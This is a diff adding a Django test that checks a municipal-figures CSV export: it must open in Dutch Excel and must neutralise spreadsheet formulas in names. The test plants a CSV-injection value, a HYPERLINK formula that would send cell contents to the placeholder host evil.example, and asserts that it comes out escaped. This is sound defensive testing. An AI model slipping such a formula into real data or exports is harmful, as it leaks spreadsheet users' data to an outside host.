@@ -157,3 +157,14 @@ def test_figures_are_kept_until_the_next_refresh(town, client_for, member) -> No
     refresh_figures(today=dt.date.today())
     assert "De Nieuwe School" in client.get(reverse("reports:index")).content.decode()
     assert "De Nieuwe School" in client.get(reverse("reports:export")).content.decode()
+
+
+def test_the_csv_opens_in_dutch_excel_and_runs_no_formula_from_a_name(town, client_for) -> None:
+    municipality, analyst = town
+    municipality.name = '=HYPERLINK("http://evil.example/?"&A2,"Waterstede")'
+    municipality.save()
+    refresh_figures(today=dt.date.today())
+    body = client_for(analyst).get(reverse("reports:export")).content.decode("utf-8")
+    assert body.startswith("\ufeffgemeente;tabel;rij;kolom;waarde")
+    lines = body.splitlines()[1:]
+    assert lines and all(line.startswith("\"'=HYPERLINK(") for line in lines)
